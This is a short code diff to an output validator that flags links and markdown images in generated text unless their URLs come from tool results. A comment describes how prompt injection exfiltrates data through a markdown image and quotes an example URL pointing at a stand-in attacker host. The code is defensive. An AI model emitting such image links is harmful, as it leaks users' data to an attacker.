@@ -16,6 +16,7 @@ from typing import Any
 from domain.org import Org
 
 NUMBER = re.compile(r"(?<![\w.])(\d+(?:\.\d+)?)\s*(%?)")
+URL = re.compile(r"(?:!\[[^\]]*\]\()?(?:https?://|www\.)[^\s)]+\)?", re.I)
 SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
 
 
@@ -66,7 +67,13 @@ def unsupported_claims(
     problems = []
     lowered = sentence.casefold()
     corpus = " | ".join(strings)
-    remaining = lowered
+    # Links and images must come from the tools: a markdown image is how a prompt
+    # injection smuggles data out ("![x](https://evil.example/?d=...)").
+    for url in URL.findall(lowered):
+        bare = url.removeprefix("![").split("](")[-1].rstrip(")")
+        if bare not in corpus:
+            problems.append(url)
+    remaining = URL.sub(" ", lowered)
     for name in _entity_names(org):
         key = name.casefold()
         if re.search(rf"(?<![\w]){re.escape(key)}(?![\w])", remaining):
